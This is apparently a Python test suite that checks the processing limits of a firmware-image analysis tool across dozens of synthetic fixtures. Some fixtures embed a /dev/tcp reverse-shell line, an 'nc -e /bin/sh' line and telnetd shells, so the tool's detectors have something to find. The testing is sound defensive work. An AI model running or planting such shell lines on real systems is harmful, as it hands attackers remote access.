#!/usr/bin/env python3
"""
Limits from both sides (docs/limits.md): just below one, what it bounds is there and no row of `incomplete` speaks of it;
just above it a row says which file, what and how much, and nothing that would rest on it is shown.
"""
import json
import pathlib
import shutil
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
import limit_recipes as recipe  # noqa: E402
from recipes import device_tree  # noqa: E402
from tap import SCRATCH, Skip, assay, case, equal, main, write  # noqa: E402

CONF, SCRIPT, SBIN, RCS = "/etc/app.conf", "/etc/init.d/app", "/usr/sbin/app", "/etc/init.d/rcS"
IMAGE = "limit.bin"
RUN_ALL = "SELECT count(*) FROM setting WHERE name LIKE '% all of'"
TELNET = "SELECT count(*) FROM service WHERE protocol = 'telnet'"
EVERY = "SELECT count(*) FROM %s f JOIN file p ON p.id = f.file WHERE p.path LIKE '%%%s'"
ROOTS = "SELECT count(DISTINCT volume) FROM file f JOIN account a ON a.file = f.id"
lines, elf, docker = recipe.lines, recipe.elf, recipe.docker


def root(path, make):
    return recipe.root(path[1:], make)


class Limit:
    """
    A recipe and the most that is read of it; the code of the row above, what is missing, how much (None: not known) and in
    which file or container; a query and its answers on both sides. above: the first number that is told, where it is not
    the next. shown: what rests on it is shown all the same.
    """

    def __init__(self, make, most, code, missing, path, query, answers, amount=1, above=None, options=(), shown=False, tool=None):
        self.make, self.numbers, self.code, self.missing, self.path = make, (most, above or most + 1), code, missing, path
        self.query, self.answers, self.amount = query, answers, amount
        self.options, self.shown, self.tool = options, shown, tool


def tree(**properties):
    return device_tree({"model": b"x\0", "compatible": b"a,b\0", **properties})


LIMITS = {
    # the budgets of an image; an image of 1 MiB may have 66384 entries, of which one container takes half
    "entries of an image": Limit(recipe.entries, 33192, "budget.entries", "entries", "data",
                                 "SELECT count(*) FROM file WHERE path LIKE '/srv/%'", ("33186", "33186"), amount=None),
    "containers of an image": Limit(recipe.volumes, 4096, "budget.volumes", "entries", IMAGE,
                                    "SELECT count(*) FROM volume WHERE format <> 'raw'", ("4096", "4096"), amount=None),
    "containers in containers": Limit(recipe.nested, 12, "budget.depth", "entries", "data",
                                      "SELECT count(*) FROM volume WHERE format = 'gzip'", ("12", "12")),
    "entries in memory": Limit(recipe.fragments, 3000000, "volume.unread", "entries", IMAGE,
                               "SELECT state FROM volume WHERE format = 'squashfs'", ("read", "over-budget"), amount=None,
                               above=4000000, options=("--memory-limit", "128"), tool="sqfstar"),
    "inspectors in memory": Limit(recipe.large_tree, 24 << 20, "inspect.memory", "search", "devicetree",
                                  "SELECT count(*) FROM device_tree WHERE model = 'large'", ("1", "0"), amount=None,
                                  above=40 << 20, options=("--memory-limit", "128")),
    "programs in memory": Limit(root("/etc/inittab", lambda count: b"::respawn:/" + b"a./" * count + b"program\n"), 12000,
                                "services.memory", "sight", None,
                                "SELECT program_present IS NULL FROM service WHERE program LIKE '/a./%'", ("0", "1"), above=20000),
    # facts of a file
    "hits of a pattern": Limit(lambda count: recipe.numbered_lines(SCRIPT[1:], count, b": /dev/tcp/\n", b"sh -i >& /dev/tcp/10.0.0.9/99 0>&1\n"),
                               8192, "remote shells.hits", "facts", SCRIPT, EVERY % ("remote_shell", SCRIPT), ("1", "0")),
    "bytes of a fact": Limit(root("/etc/sysctl.conf", lambda size: b"kernel.a=" + (b"a.b-c," * 20000)[:size] + b"\n"), 65536, "facts.setting", "facts",
                             "/etc/sysctl.conf", "SELECT length(value) FROM setting WHERE name = 'kernel.a'", ("65536", "65536")),
    "facts of a file": Limit(root("/etc/passwd", lines(b"u%d:x:9:9::/:/bin/sh\n")), 200000, "facts.account", "facts", "/etc/passwd",
                             EVERY % ("account", "/etc/passwd"), ("200000", "200000")),
    "settings": Limit(root("/etc/sysctl.conf", lines(b"net.x%d=1\n")), 10000, "facts.setting", "facts", "/etc/sysctl.conf",
                      EVERY % ("setting", "sysctl.conf"), ("10000", "10000")),
    "secrets": Limit(root(CONF, lines(b"password%d=Wq8zk2Lp\n")), 200, "facts.secret", "facts", CONF, EVERY % ("secret", CONF), ("200", "200")),
    "bytes of an address": Limit(root(CONF, lambda size: b"url=http://fw.acme-cam.com/" + (b"a-word.of_it/" * 400)[:size - 23] + b"\n"), 4095,
                                 "facts.endpoint", "facts", CONF, "SELECT length(text) FROM endpoint", ("4095", "4096"), shown=True),
    "PEM keys": Limit(root("/etc/keys.pem", lambda count: recipe.block(b"PGP PUBLIC KEY BLOCK", count)), 4096, "facts.key", "facts",
                      "/etc/keys.pem", EVERY % ("key", "keys.pem"), ("4096", "4096")),
    "PEM certificates": Limit(root("/etc/all.pem", recipe.certificates), 4096, "facts.certificate", "facts", "/etc/all.pem",
                              EVERY % ("certificate", "all.pem"), ("4096", "4096")),
    "SSH keys": Limit(root("/root/.ssh/authorized_keys", lambda count: b"".join(map(recipe.ssh_line, range(count)))), 10000, "facts.key",
                      "facts", "/root/.ssh/authorized_keys", EVERY % ("key", "authorized_keys"), ("10000", "10000")),
    "libraries": Limit(root(SBIN, lambda count: elf(needed=count)), 1024, "facts.elf_library", "facts", SBIN,
                       EVERY % ("elf_library", SBIN), ("1024", "1024")),
    "imports": Limit(root(SBIN, lambda count: elf(imports=count)), 4096, "facts.elf_import", "facts", SBIN,
                     EVERY % ("elf_import", SBIN), ("4096", "4096")),
    "compilers": Limit(root(SBIN, lambda count: elf(compilers=count)), 64, "facts.elf", "facts", SBIN,
                       "SELECT length(compiler) - length(replace(compiler, ';', '')) FROM elf", ("63", "63")),
    "symbols of functions": Limit(root(SBIN, lambda count: elf(imports=count, function=b"curl_easy_setopt")), 32, "elf.calls", "search", SBIN,
                                  "SELECT count(*) FROM elf", ("1", "1"), amount=None),
    "bytes of a name": Limit(root(SBIN, lambda size: elf(soname=b"x" * size)), 4095, "facts.elf", "facts", SBIN,
                             "SELECT length(soname) FROM elf", ("4095", "4096")),
    # packages and components
    "packages": Limit(root("/usr/lib/opkg/status", recipe.packages), 20000, "facts.package", "facts", "/usr/lib/opkg/status",
                      "SELECT count(*) FROM package", ("20000", "20000")),
    "packages of an RPM database": Limit(recipe.rpm_database, 20000, "facts.package", "facts", "/var/lib/rpm/rpmdb.sqlite",
                                         "SELECT count(*) FROM package", ("20000", "20000")),
    "sightings": Limit(recipe.sightings, 100000, "identify.sightings", "sight", None,
                       "SELECT count(*) FROM witness WHERE component IS NOT NULL", ("100000", "100001")),
    # kernels and boot loaders
    "kernels of a file": Limit(recipe.kernels, 8, "facts.kernel", "facts", "kernel", "SELECT count(*) FROM kernel", ("8", "8")),
    "parameters of a kernel": Limit(lambda count: tree(chosen={"bootargs": b" ".join(b"p%d" % number for number in range(count)) + b"\0"}),
                                    1024, "facts.kernel_parameter", "facts", "devicetree", "SELECT count(*) FROM kernel_parameter",
                                    ("1024", "1024")),
    "configuration of a kernel": Limit(root(SBIN, recipe.kernel_configuration), 4 << 20, "kernel.config-damaged", "content", SBIN,
                                       "SELECT count(*) FROM kernel_option WHERE name = 'CONFIG_MMU'", ("1", "1"), amount=None),
    "strings of a list": Limit(lambda count: tree(compatible=b"".join(b"a,%d\0" % n for n in range(count))), 256, "facts.device_tree", "facts",
                               "devicetree", "SELECT compatible LIKE '%a,255%' FROM device_tree", ("1", "1")),
    "bytes of a list": Limit(lambda size: tree(compatible=b"a," + b"x" * (size - 3) + b"\0"), 16384, "facts.device_tree", "facts",
                             "devicetree", "SELECT length(compatible) FROM device_tree", ("16383", "16384")),
    "bytes of device trees": Limit(recipe.large_tree, 64 << 20, "facts.device_tree", "facts", "devicetree",
                                   "SELECT count(*) FROM device_tree WHERE model = 'large'", ("1", "0"), above=(64 << 20) + 4),
    "places of an environment": Limit(recipe.environments, 64, "boot.environments", "search", "firmware",
                                      "SELECT count(*) FROM boot_variable", ("3", "0"), amount=None),
    "variables of an environment": Limit(lambda count: recipe.environment(recipe.named(count), 0x10000), 1024, "facts.boot_variable", "facts",
                                         "environment", "SELECT count(*) FROM boot_variable", ("1024", "1024")),
    "bytes of a variable": Limit(recipe.long_variable, 65536, "facts.boot_variable", "facts", "firmware",
                                 "SELECT count(*) FROM boot_variable WHERE name IN ('long', 'after')", ("2", "0")),
    "boot variables of a file": Limit(recipe.many_environments, 4095, "facts.boot_variable", "facts", "firmware",
                                      "SELECT count(*) FROM boot_variable", ("4095", "4095")),
    # scripts and what they start
    "variables of a script": Limit(root(SCRIPT, lines(b"v%d=1\n", b"#!/bin/sh\nt=telnetd\n", b"$t -l /bin/sh\n")), 511, "shell.too-much", "search",
                                   SCRIPT, TELNET, ("1", "1"), amount=None),
    "functions of a script": Limit(root(RCS, lines(b"f%d() { :; }\n", b"#!/bin/sh\nt() { telnetd -l /bin/sh; }\n", b"t\n")), 511, "facts.service", "facts",
                                   RCS, TELNET, ("1", "1")),
    "calls of functions": Limit(root(RCS, recipe.functions), 30, "services.calls", "search", RCS, TELNET, ("1", "1"), amount=None),
    "calls of scripts": Limit(recipe.chain, 63, "services.chain", "sight", "/usr/lib/step64.sh", TELNET, ("1", "1"), amount=None),
    "wants of units": Limit(recipe.units, 64, "services.units", "sight", "u65.service", TELNET + " AND enabled", ("1", "1"), amount=None),
    "starts of programs": Limit(recipe.starters, 62, "services.programs", "sight", "/usr/sbin/telnetd", TELNET, ("1", "1"), amount=None),
    "a line that hands out a shell": Limit(
        root(SCRIPT, lambda size: b"#!/bin/sh\nnc " + (b"10.0.0.1-" * 2000)[:size - 3] + b" -e /bin/sh\n"), 16374, "remote-shells.line", "search",
        SCRIPT, EVERY % ("remote_shell", SCRIPT), ("1", "0"), amount=None),
    "lines of a loop": Limit(root(RCS, lambda count: recipe.loop(b"/etc/rc.d/S*", count)), 256, "services.folders", "search", RCS,
                             RUN_ALL, ("1", "0"), amount=None),
    "bytes of a pattern": Limit(root(RCS, lambda size: recipe.loop(b"/etc/" + b"x" * (size - 6) + b"*", 1)), 128, "services.folders",
                                "search", RCS, RUN_ALL, ("1", "0"), amount=None),
    "stars of a pattern": Limit(root(RCS, lambda count: recipe.loop(b"/etc/x" + b"*y" * count, 1)), 3, "services.folders", "search", RCS,
                                RUN_ALL, ("1", "0"), amount=None),
    # container images and collections
    "images of a container": Limit(lambda count: docker(count), 64, "container.many", "entries", IMAGE,
                                   "SELECT count(*) FROM volume WHERE format = 'container'", ("64", "64")),
    "layers of a container": Limit(lambda count: docker(1, layers=count), 512, "container.many", "entries", IMAGE,
                                   "SELECT count(*) FROM volume WHERE format = 'container'", ("1", "0")),
    "layers of all containers": Limit(recipe.layered, 512, "container.many", "entries", "/511/layer.tar",
                                      "SELECT count(*) FROM file WHERE path LIKE '/etc/x%'", ("511", "511")),
    "containers of an index": Limit(recipe.oci, 64, "container.many", "entries", IMAGE, ROOTS, ("64", "64")),
    "compressions of a layer": Limit(lambda count: docker(1, wrap=count), 4, "container.layer", "content", "/a/layer.tar",
                                     "SELECT count(*) > 0 FROM account", ("1", "0"), amount=None),
    "bytes of a manifest": Limit(lambda size: docker(1, padding=size), 16 << 20, "container.missing-manifest", "entries", IMAGE,
                                 "SELECT count(*) FROM volume WHERE format = 'container'", ("1", "0")),
    "manifests of containers": Limit(recipe.oci_documents, 256, "container.missing-manifest", "entries", IMAGE,
                                     "SELECT count(*) FROM volume WHERE format = 'container'", ("1", "0")),
    "roots of a collection": Limit(recipe.roots, 64, "collection.roots", "sight", IMAGE,
                                   "SELECT count(*) FROM volume WHERE format = 'directory'", ("64", "64")),
    "folders of a collection": Limit(recipe.folders, 1023, "collection.roots", "sight", IMAGE,
                                     "SELECT count(*) FROM volume WHERE format = 'directory'", ("1", "0"), amount=None),
    # what unpackers refuse
    "images of a FIT": Limit(lambda count: device_tree({"description": b"x\0", "images": {
        f"p{number}": {"data": b"text\n" * 9, "type": b"firmware\0"} for number in range(count)}, "configurations": {}}), 256,
                             "volume.refused", "entries", IMAGE, "SELECT count(*) FROM file WHERE path GLOB 'p[0-9]*'", ("256", "256")),
    "bytes of a path": Limit(lambda size: recipe.pax(path=b"d/" * 2 + b"x" * (size - 4)), 4096, "volume.refused", "entries", IMAGE,
                             "SELECT count(*) FROM file WHERE path LIKE '/d/d/%'", ("1", "0")),
    "bytes of a path of a SquashFS": Limit(recipe.long_path, 4096, "volume.refused", "entries", IMAGE,
                                           "SELECT count(*) FROM file WHERE path LIKE '/ddd%f'", ("1", "0"), tool="sqfstar"),
    "bytes of an extended header": Limit(lambda size: recipe.pax(comment=b"x" * (size - len("1048576 comment=\n"))), 1 << 20, "volume.refused",
                                         "entries", IMAGE, "SELECT count(*) FROM file WHERE path = '/short'", ("1", "1")),
}


def check_side(limit, above):
    image = write(IMAGE, limit.make(limit.numbers[above]))
    run = assay(image, "--save", SCRATCH / "limit.assay", "--no-vulnerabilities", "--json", "-", *limit.options)
    equal(run.status, 0, run.err)
    result = json.loads(run.out)
    asked = assay("query", SCRATCH / "limit.assay", limit.query, "--format", "tsv")
    equal(asked.status, 0, asked.err)
    equal((above, asked.out.split("\n")[1]), (above, limit.answers[above]))
    rows = [one for one in result["incomplete"] if one["code"] == limit.code]
    told = [(one["code"], one["missing"], one["path"], one["amount"]) for one in result["incomplete"]]
    if not above:
        equal(told, [], "just below")
        return
    equal({(one["missing"], one["path"]) for one in rows}, {(limit.missing, limit.path)}, told)
    equal({one["cause"] in ("limit", "memory", "unsupported") for one in rows}, {True}, rows)
    equal(max((one["amount"] or 0 for one in rows), default=0) if limit.amount else None, limit.amount, told)
    if not limit.shown:
        equal([one["id"] for one in result["requirements"] if one["verdict"] == "shown"], [], "shown")


for _name in LIMITS:
    def test(name=_name):
        limit = LIMITS[name]
        if limit.tool and not shutil.which(limit.tool):
            raise Skip(f"{limit.tool} is not installed")
        for above in (False, True):
            check_side(limit, above)
    test.__name__ = _name.replace(" ", "_")
    case(test)


@case
def the_sound_root_shows_something():
    """Else nothing could be hidden by a limit."""
    result = json.loads(assay(write("sound.tar", recipe.archive(recipe.SOUND)), "--no-vulnerabilities", "--json", "-").out)
    equal(([one["verdict"] for one in result["requirements"]].count("shown") > 0, result["incomplete"]), (True, []))


main()
